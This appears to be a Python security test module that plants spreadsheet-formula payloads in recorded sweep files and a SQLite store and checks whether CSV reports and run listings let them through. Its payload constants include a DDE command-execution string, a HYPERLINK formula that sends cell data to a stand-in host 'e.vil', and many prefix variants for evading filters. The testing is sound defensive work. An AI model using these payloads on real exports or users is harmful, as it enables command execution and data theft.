"""Put formulas into what a sweep and a store have recorded, and look for them in the tables for people."""

import contextlib
import csv
import io
import json
import sqlite3
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from random import Random

from tests.attacks.commands import import_all
from tests.attacks.forked import Ending, call
from tests.attacks.session import Case, judge_ending
from tests.attacks.values import find_places
from tests.attacks.worlds import STORE, World, make_worlds, run_main

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\t=",
    "\r",
    "\r=",
    "\n=",
    " =",
    '"=',
    "'=",
    "=",
    "\uff1d",
    "x\r=",
    "x\n=",
    "x;=",
    'x; "@',
)
CALLS = ("cmd|'/c calc'!A0", 'HYPERLINK("http://e.vil/"&A1)', "1+1", "SUM(A1:A9)*cmd", "IMPORTXML(A1)", 'x",=1+1')
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
RECORDS = ("sweep/0/result.json", "sweep/1/failure.json", "sweep/sweep.json")
ROWS = {"name": "UPDATE runs SET name = ?", "tag": "UPDATE tags SET value = ?", "param": "UPDATE params SET value = ?"}


@dataclass(frozen=True)
class Command:
    """A command that shows what was recorded as a table for people."""

    words: tuple[str, ...]
    read: Callable[[World, Ending], str]
    """Return the CSV that it has written or printed."""


COMMANDS = {
    "report": Command(("report", "sweep"), lambda world, _: _read(world.folder / "sweep" / "leaderboard.csv")),
    "runs": Command(("runs", "format=csv"), lambda _, ending: ending.out),
}


def _read(file: Path) -> str:
    return file.read_text(encoding="utf-8", errors="replace") if file.is_file() else ""


def plan(session: Path, *, is_short: bool) -> list[Case]:
    """Lay out what an earlier commit wrote, and return every combination of a place for a formula and its sign."""
    import_all()
    (world,) = make_worlds(session, with_new=False)
    places = [
        *((name, "report", partial(_put_in_record, world, name)) for name in RECORDS if _is_there(world, name)),
        *((f"{name} of the store", "runs", partial(_put_in_store, world, name)) for name in ROWS),
    ]
    return [
        Case(target, command, repr(sign), partial(_run, world, COMMANDS[command], put, sign))
        for target, command, put in places
        for sign in SIGNS[:: 4 if is_short else 1]
    ]


def _is_there(world: World, name: str) -> bool:
    return (world.untouched / name).is_file()


def _put_in_record(world: World, name: str, text: str, rng: Random) -> str:
    """Put a text in the place of another one of a record; a part of an override stays, as it is `key=value`."""
    file = world.folder / name
    tree = json.loads(file.read_text("utf-8"))
    place = rng.choice([place for place in find_places(tree) if isinstance(place.value, str)])
    key, equals, _ = place.value.partition("=")
    place.holder[place.key] = f"{key}{equals}{text}" if equals and rng.random() < 0.7 else text
    file.write_text(json.dumps(tree), encoding="utf-8")
    return f"{name}: {place.path} = {text!r}"


def _put_in_store(world: World, name: str, text: str, _: Random) -> str:
    with contextlib.closing(sqlite3.connect(world.folder / STORE)) as store:
        store.execute(ROWS[name], (text,))
        store.commit()
    return f"every {name} = {text!r}"


def _run(
    world: World, command: Command, put: Callable[[str, Random], str], sign: str, rng: Random
) -> tuple[str, Ending, str | None]:
    world.lay_out()
    done = put(sign + rng.choice(CALLS), rng)
    ending = call(lambda: run_main(command.words), world.folder)
    formulas = [cell for cell in _list_cells(command.read(world, ending)) if _is_formula(cell)]
    return done, ending, judge_ending(ending) or (f"formula: {formulas[0]!r:.60}" if formulas else None)


def _list_cells(text: str) -> Iterator[str]:
    """Yield the cells as spreadsheets find them: a line ends at a carriage return too, and a cell at a semicolon."""
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row


def _is_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False
